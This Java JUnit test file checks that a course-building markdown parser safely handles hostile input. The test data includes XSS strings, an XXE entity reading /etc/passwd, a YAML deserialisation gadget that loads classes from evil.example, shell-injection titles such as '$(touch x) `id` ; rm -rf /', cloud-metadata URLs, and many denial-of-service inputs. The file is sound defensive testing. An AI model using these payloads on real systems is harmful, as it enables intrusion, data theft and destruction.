package dev.coursecreator.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.ThreadMXBean;
import dev.coursecreator.markdown.ParsedCourse.Valid;
import dev.coursecreator.markdown.text.PlainText;
import dev.coursecreator.model.Slug;
import dev.coursecreator.model.message.MessageCodec;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Malicious input becomes harmless slides and narration, or errors; it never breaks the parser. */
class HostileMarkdownTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "Before <b onclick=alert(1)>bold</b> after.",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<svg onload=alert(1)></svg>",
                "<style>@import 'https://evil.example/'</style>",
                "<?php system('id'); ?>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "# <script>alert(1)</script> A heading",
                "- <script>alert(1)</script> an item",
                "| a | b |\n|---|---|\n| <script>alert(1)</script> | c |"
            })
    void rawHtmlIsDropped(String html) {
        var script = json("# Course\n\nText.\n\n" + html + "\n\nMore.\n");
        assertThat(script)
                .doesNotContain(
                        "<script",
                        "<img",
                        "<b ",
                        "<iframe",
                        "<svg",
                        "<style",
                        "<?php",
                        "<!",
                        "<a ",
                        "onclick",
                        "evil.example");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a picture](https://evil.example/track.png)",
                "![a picture](file:///etc/passwd)",
                "![a picture](../../../../etc/passwd)",
                "![a picture][ref]\n\n[ref]: https://evil.example/track.png",
                "[a link](javascript:alert(1))",
                "[a link](https://evil.example/?secret)",
                "[a link](data:text/html;base64,PHNjcmlwdD4=)",
                "Text ![a picture](http://169.254.169.254/latest/meta-data) in a line."
            })
    void linkAndImageTargetsAreDropped(String link) {
        var script = json("# Course\n\nText.\n\n" + link + "\n\nMore.\n");
        assertThat(script).doesNotContain("evil.example", "/etc/passwd", "javascript:", "data:text", "169.254.169.254");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "/etc/passwd",
                "..\\\\..\\\\windows",
                "a/../../b",
                "con|nul:aux*",
                "$(touch x) `id` ; rm -rf /",
                "-i -filter_complex movie=/etc/passwd",
                "%2e%2e%2f",
                "a\u0000b",
                "\u202egnp.exe"
            })
    void titleBecomesASafeSlug(String title) {
        for (var markdown : new String[] {
            "# " + title + "\n\nText.\n", "---\ntitle: \"" + title.replace("\"", "") + "\"\n---\n\nText.\n"
        }) {
            if (CourseMarkdown.parse(markdown) instanceof Valid valid) {
                assertThat(Slug.of(valid.script().title(), "course"))
                        .as(markdown)
                        .matches("[\\p{L}\\p{N}]+(-[\\p{L}\\p{N}]+)*");
                assertThat(valid.script().title()).doesNotContain("\u0000", "\u202e");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
                "title: !!java.io.File [/etc/passwd]",
                "title: {a: [{b: [{c: [{d: [{e: [{f: 1}]}]}]}]}]}",
                "title: &a [*a]",
                "language: en; movie=/etc/passwd",
                "theme: &a {mode: [*a], footer: [*a], accent: [*a], logo: [*a], fonts: {text: [*a]}}",
                "theme: &a [*a]",
                "theme: {? [x, y] : z, footer: !!set {a, b}}",
                "language: ../../en",
                "voice: [1, 2]"
            })
    void frontMatterAcceptsPlainTextValuesOnly(String yaml) {
        var parsed = CourseMarkdown.parse("---\n" + yaml + "\n---\n\n# Course\n\nText.\n");
        assertThat(parsed).isInstanceOfSatisfying(Valid.class, course -> {
            assertThat(course.script().warnings()).isNotEmpty();
            assertThat(course.script().language()).isEqualTo("en");
            assertThat(course.voice()).isNull();
        });
    }

    /** The "billion laughs" attack: ten aliases of ten aliases of ten aliases. */
    @Test
    void exponentiallyGrowingAliasesAreNotExpanded() {
        var yaml = new StringBuilder("---\na0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]\n");
        for (int i = 1; i < 12; i++) {
            yaml.append("a%d: &a%d [%s]\n"
                    .formatted(i, i, String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))));
        }
        assertThat(json(yaml + "---\n\n# Course\n\nText.\n")).hasSizeLessThan(2_000);
    }

    /** What the same input may allocate more in one run than in another. */
    private static final int TOLERANCE = 1 << 18;

    private static final int WARM_UP = 1 << 8;
    private static final int SHORT = 1 << 12;
    private static final int LONG = 4 * SHORT;

    private static List<String> inputs(int length) {
        return List.of(
                ".. note::\n".repeat(length / 10),
                ".. note::\n" + " a\n".repeat(length / 3),
                ".. code::\n\n".repeat(length / 11),
                "'''a ".repeat(length / 5),
                "''a ".repeat(length / 4),
                "= a ".repeat(length / 4) + "=",
                "{info}\n{note:title=a}\n{code}\n".repeat(length / 30),
                "{note:title=a}\n".repeat(length / 15) + "{tip}\n".repeat(length / 12),
                "<<<<<<< a\n=======\n".repeat(length / 18),
                "import a from 'b'\n\n" + "{a".repeat(length / 2),
                "import a from 'b'\n\n" + "{a}".repeat(length / 3),
                "import " + "from '".repeat(length / 6) + "\na",
                "```plantuml\nA -> B : " + "[[a".repeat(length / 3) + "\n```\n",
                "> ".repeat(length / 2),
                "- ".repeat(length / 2),
                "1. ".repeat(length / 3),
                "*".repeat(length),
                "*a_ ".repeat(length / 4),
                "**a ".repeat(length / 4),
                "[".repeat(length),
                "![".repeat(length / 2),
                "[a](".repeat(length / 4),
                "[a](<b".repeat(length / 6),
                "[^a]: ".repeat(length / 6),
                "<".repeat(length),
                "<!--".repeat(length / 4),
                "<a b='".repeat(length / 6),
                "&".repeat(length),
                "\\".repeat(length),
                "`".repeat(length),
                ".".repeat(length),
                "!\"".repeat(length / 2),
                "e.g. ".repeat(length / 5),
                "a. (\"".repeat(length / 5),
                ("a." + " ".repeat(100)).repeat(length / 102),
                "(pause: ".repeat(length / 8),
                "a@".repeat(length / 2),
                "www.".repeat(length / 4),
                "http://a.".repeat(length / 9),
                "~~a ".repeat(length / 4),
                "a".repeat(length),
                "a. ".repeat(length / 3),
                "ein ".repeat(length / 4),
                "\u6f22\u3042 ".repeat(length / 3),
                "# a\n".repeat(length / 4),
                "## a\n\n".repeat(length / 6),
                "```\n".repeat(length / 4),
                "```java " + "{1-9".repeat(length / 4) + "}\na\n```\n",
                "```java {" + "1,".repeat(length / 2) + "}\na\n```\n",
                "```java " + "{1}".repeat(length / 3) + "\na\n```\n",
                "|".repeat(length),
                "|a".repeat(length / 4) + "|\n" + "|-".repeat(length / 4) + "|\n",
                "|a".repeat(length / 8) + "|\n" + "|-".repeat(length / 8) + "|\n" + "|\n".repeat(length / 4),
                "<table><tr>" + "<td>a".repeat(length / 10) + "<tr>".repeat(length / 8),
                "<table>" + "<tr><td colspan=9999 rowspan=9999>a".repeat(length / 35),
                "- [ ] ```\n".repeat(length / 10),
                "Which?\n\n- [ ] a\n> b\n".repeat(length / 20),
                "Which?\n\n" + "- [x] a\n> b\n".repeat(length / 12),
                "Which?\n\n" + "    a\n\n<!-- -->\n\n".repeat(length / 18),
                "Pick one.\n\n".repeat(length / 11),
                "Which?\n\n- [x] " + "?".repeat(length) + "a\n- [ ] b\n",
                "[( )] a\n".repeat(length / 8),
                "[[a]]\n\n".repeat(length / 7),
                "[[" + "a|".repeat(length / 2) + "]]\n",
                "```quiz\n```\n".repeat(length / 12),
                "```quiz\n" + "a\n".repeat(length / 2) + "```\n",
                "<Quiz>\n".repeat(length / 7),
                "<Quiz>\n\n</Quiz>\n\n".repeat(length / 18),
                "<Quiz a={".repeat(length / 9),
                "<Quiz a={" + "[".repeat(length),
                "<Quiz>" + "<Answer>".repeat(length / 8),
                "<Quiz answers={[" + "1,".repeat(length / 2) + "]} answer={[" + "2,".repeat(9) + "]}/>",
                "$".repeat(length),
                "$a ".repeat(length / 3),
                "$a$ ".repeat(length / 16),
                "$$a ".repeat(length / 4) + "$",
                "$$\n".repeat(length / 3),
                "$`a ".repeat(length / 4),
                "\\(a ".repeat(length / 4),
                "\\[a ".repeat(length / 4),
                "\\(".repeat(length / 4) + "\\)",
                "$$\n" + "{".repeat(length) + "\n$$\n",
                "$" + "5 a".repeat(length / 3) + "$",
                "\u202e".repeat(length / 4),
                "\ud83d".repeat(length / 4),
                "\u0000".repeat(length),
                "\t".repeat(length),
                "\r".repeat(length / 2),
                "---\nclass: a\n".repeat(length / 13),
                "a\n".repeat(length / 2),
                "?\n".repeat(length / 2),
                "> ?\n".repeat(length / 4),
                "a ".repeat(length / 2),
                "a\n\n".repeat(length / 3),
                "a<br>".repeat(length / 5),
                "a  \n".repeat(length / 4),
                "a\\\n".repeat(length / 3),
                "<div>".repeat(length / 5),
                "<b>a".repeat(length / 4),
                "{% ".repeat(length / 3),
                "{#a".repeat(length / 3),
                "![[".repeat(length / 3),
                "![[a.png".repeat(length / 8),
                "a\n![](b.png)\n".repeat(length / 13),
                "![](b.png){".repeat(length / 11),
                "[![](b)](".repeat(length / 9),
                "a <img ".repeat(length / 7),
                "{{#include a\n".repeat(length / 13),
                "{{#include a.md}}\n".repeat(length / 18),
                "--8<--\n".repeat(length / 7),
                "--8<-- '".repeat(length / 8),
                "Note: a\n\n".repeat(length / 9),
                ":::note\n".repeat(length / 8),
                "(callout: |\n".repeat(length / 12),
                "(voice: a)\n".repeat(length / 11),
                "{{1}}".repeat(length / 5),
                "--{{".repeat(length / 4),
                ":::note\n".repeat(length / 20) + ":::\n".repeat(length / 20),
                ":::{" + "a ".repeat(length / 2) + "}\n:::\n",
                ":::{note}\n:a: b\n".repeat(length / 16),
                ":".repeat(length),
                "!!! a\n    ".repeat(length / 10),
                "!!! " + "a ".repeat(length / 2) + "\n",
                "> [!a]\n\n".repeat(length / 8),
                "> **Note**\n\n".repeat(length / 12),
                "==a ".repeat(length / 4),
                "a~b".repeat(length / 3),
                "a^b".repeat(length / 3),
                "a\n: b\n".repeat(length / 6),
                "---\ntheme:\n  footer: " + "x".repeat(length) + "\n---\n",
                "---\ntheme:\n" + "  x: mode\n".repeat(length / 10) + "---\n",
                "---\ntheme: {" + "'mode ".repeat(length / 6) + "': 1}\n---\n",
                "{{ a".repeat(length / 4),
                "{% a ".repeat(length / 5),
                "{{< a".repeat(length / 5),
                "[[a".repeat(length / 3),
                "![[a|".repeat(length / 5),
                "%% a\n".repeat(length / 5),
                "{::comment}\n".repeat(length / 12),
                "{/* a\n".repeat(length / 6),
                "{~~a~>".repeat(length / 6),
                "{a}`b".repeat(length / 5),
                "[@a ".repeat(length / 4),
                "a:: b ".repeat(length / 6),
                "++a+b".repeat(length / 5),
                "+--".repeat(length / 3),
                "+---+\n| a |\n".repeat(length / 12),
                "| a\n".repeat(length / 4),
                "(@a) b\n".repeat(length / 7),
                "<table>\n\n".repeat(length / 9),
                "<h1>a\n\n".repeat(length / 7),
                "export const a = {\n\n".repeat(length / 20),
                "<img src=\"https://img.shields.io/a\"> ".repeat(length / 38),
                "![a](https://img.shields.io/b) ".repeat(length / 31),
                "**a**\n\n".repeat(length / 7),
                "- [a](#b)\n".repeat(length / 10),
                "a[^b] ".repeat(length / 6),
                "# a\n\n---\n\n".repeat(length / 10),
                "```{figure} a\n:b: c\n```\n".repeat(length / 24),
                ":a:".repeat(length / 3),
                "a[^1] ".repeat(length / 6) + "\n\n[^1]: b\n",
                "^[".repeat(length / 2),
                "^[a] ".repeat(length / 5),
                "```{" + "a ".repeat(length / 2) + "\na\n```\n",
                "+++\n" + "a = [".repeat(length / 5) + "\n+++\n",
                "---\n" + "[".repeat(length) + "\n---\n",
                "---\n" + "a: {".repeat(length / 4) + "\n---\n",
                "---\n" + "? ".repeat(length / 2) + "\n---\n",
                "---\n" + "- ".repeat(length / 2) + "\n---\n",
                "|a|\n|-|\n|" + ".".repeat(length) + "a|\n",
                "|a|b|\n|-|-|\n|" + "!?".repeat(length / 2) + "a|b|\n",
                "Which?\n\n- [x] " + ". ".repeat(length / 2) + "a\n- [ ] b\n",
                "## Quiz " + "1:".repeat(length / 2) + "a\n\nWhich?\n\n- [x] a\n- [ ] b\n",
                "## " + ".".repeat(length) + "a\n\nWhich?\n\n- [x] a\n- [ ] b\n",
                "---\na: {" + "b: 1, ".repeat(length / 6) + "}\n---\n",
                "---\nlanguage: en" + "-aa".repeat(length / 3) + "\n---\n",
                "---\nlanguages: en" + " ".repeat(length / 2) + "a\n---\n",
                "---\nthinking-time: 1" + " ".repeat(length) + "a\n---\n",
                "<!--narration:".repeat(length / 14),
                "<!--narration:\n".repeat(length / 15),
                "<!--narration: a-->\n\n".repeat(length / 21),
                "<!--hold:".repeat(length / 9),
                "a.\ud835\udc00. ".repeat(length / 7),
                "a.\ud835\udc00.".repeat(length / 6) + " a",
                "$1 " + "aaa ".repeat(length / 4) + "_$",
                "a*b_c~~".repeat(length / 7));
    }

    /** What is loaded and cached once does not count. */
    @BeforeAll
    static void warmUp() {
        inputs(WARM_UP).forEach(input -> CourseMarkdown.parse(document("# Course\n\nText.\n\n", input)));
    }

    static Stream<Arguments> pathologicalInputs() {
        var inputs = inputs(SHORT);
        var longInputs = inputs(LONG);
        return IntStream.range(0, inputs.size())
                .boxed()
                .flatMap(i -> Stream.of("# Course\n\nText.\n\n", "---\nmarp: true\n---\n\n")
                        .map(start ->
                                Arguments.of(document(start, inputs.get(i)), document(start, longInputs.get(i)))));
    }

    private static String document(String start, String input) {
        return input.startsWith("---") ? input : start + input;
    }

    /**
     * What is allocated for a document grows with its length and not with the square of it. Unlike the time it is the same in every run.
     * The timeout is not a benchmark: it is a hundred times the expected time and catches only endless parsing.
     */
    @ParameterizedTest
    @MethodSource
    @Timeout(value = 120, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void pathologicalInputs(String input, String fourTimesAsLong) {
        assertThat(allocated(fourTimesAsLong)).isLessThan(6 * allocated(input) + TOLERANCE);
    }

    /** The parser of the library visits all nodes before a delimiter that closes nothing. */
    @Test
    void marksEndAfterAThousandDelimitersAndNothingIsLost() {
        var few = "*a " + "x~~y ".repeat(100) + "b*";
        var many = "*a " + "x~~y ".repeat(1_000) + "b*";
        assertThat(PlainText.of(few)).startsWith("a x~~y").endsWith("x~~y b.");
        assertThat(PlainText.of(many)).isEqualTo(many + ".");
    }

    /** The stack of a request is not larger, however long a word is. */
    @Test
    void longWordsNeedNoMoreStack() throws InterruptedException {
        var failures = new ConcurrentLinkedQueue<Throwable>();
        for (var text : List.of(
                "a.\ud835\udc00.".repeat(60_000) + " Next.",
                "---\nlanguage: en" + "-aa".repeat(30_000) + "\n---\n# A\n\nText.\n")) {
            var thread = new Thread(null, () -> CourseMarkdown.parse(text), "small stack", 512 * 1024);
            thread.setUncaughtExceptionHandler((failed, failure) -> failures.add(failure));
            thread.start();
            thread.join();
        }
        assertThat(failures).isEmpty();
    }

    /**
     * What a pattern does is not seen in what it allocates: one that ends with a repetition is tried from each character of a long run, and
     * reads the run each time.
     */
    @Test
    void noPatternThatIsSearchedForEndsWithARepetition() throws IOException {
        var suspicious = Pattern.compile("(?:replaceAll|replaceFirst|split)\\(\"[^\"]*(?<!\\^)[\\])]?(?:[*+])\\$\"");
        try (var sources = Files.walk(Path.of("src/main/java"))) {
            assertThat(sources.filter(file -> file.toString().endsWith(".java")))
                    .allSatisfy(file -> assertThat(Files.readString(file)).doesNotContainPattern(suspicious));
        }
    }

    private static long allocated(String markdown) {
        var thread = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        var before = thread.getCurrentThreadAllocatedBytes();
        assertThat(CourseMarkdown.parse(markdown)).isNotNull();
        return thread.getCurrentThreadAllocatedBytes() - before;
    }

    private static String json(String markdown) {
        return CourseMarkdown.parse(markdown) instanceof Valid valid
                ? MessageCodec.json().writeValueAsString(valid.script())
                : "";
    }
}
